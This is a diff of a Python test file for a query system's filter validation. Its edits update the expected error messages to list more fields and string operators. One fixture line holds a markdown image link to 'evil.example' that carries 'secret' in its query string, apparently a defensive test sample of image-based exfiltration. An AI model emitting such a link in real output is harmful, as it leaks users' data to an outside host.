@@ -31,7 +31,7 @@ pytestmark = pytest.mark.anyio
 QUESTION = SubQuery("Who built the pendulum clock after 1650?")
 MULTI_QUERY = MultiQueryStage(stage="multi_query", queries=3, weight=0.7)
 PLANNER = PlannerStage(stage="planner", queries=3)
-ALL_FIELDS = "built, maker, sender, topics, weight, working, year"
+ALL_FIELDS = "built, date, maker, path, section, sender, title, topics, weight, working, year"
 LONG_NAME = "n" * 500
 IMAGE = "![x](http://evil.example/?q=secret)"
 
@@ -224,11 +224,17 @@ REFUSED: dict[str, tuple[dict[str, object], str]] = {
     ),
     "long field": (
         query(collections=["letters"], conditions=[condition(LONG_NAME, "$eq", "red")]),
-        f"There is no field '{'n' * 64}' to filter by; there are: sender, topics, year.",
+        (
+            f"There is no field '{'n' * 64}' to filter by; "
+            "there are: date, path, section, sender, title, topics, year."
+        ),
     ),
     "field of another collection": (
         query(collections=["letters"], conditions=[condition("maker", "$eq", "red")]),
-        "There is no field 'maker' to filter by; there are: sender, topics, year.",
+        (
+            "There is no field 'maker' to filter by; "
+            "there are: date, path, section, sender, title, topics, year."
+        ),
     ),
     "operator as field": (
         query(conditions=[condition("$or", "$eq", "1")]),
@@ -276,7 +282,10 @@ REFUSED: dict[str, tuple[dict[str, object], str]] = {
     ),
     "an order of strings": (
         query(conditions=[condition("maker", "$gt", "a")]),
-        "maker does not support '$gt'; it is a string, which supports: $eq, $ne, $in, $nin, $exists.",
+        (
+            "maker does not support '$gt'; it is a string, "
+            "which supports: $eq, $ne, $in, $nin, $exists, $prefix, $contains."
+        ),
     ),
     "too many conditions": (
         query(conditions=[condition("year", "$ne", "1")] * 33),
@@ -463,7 +472,10 @@ async def test_what_a_function_returns_and_is_no_query_is_not_asked(written: Wri
         ("SubQuery('a', filter=[])", "filter must be an object with at least one condition in it."),
         (
             "SubQuery('a', filter={'$and': [{3: 4}]}, collections=('letters',))",
-            "There is no field '3' to filter by; there are: sender, topics, year.",
+            (
+                "There is no field '3' to filter by; "
+                "there are: date, path, section, sender, title, topics, year."
+            ),
         ),
     ],
 )
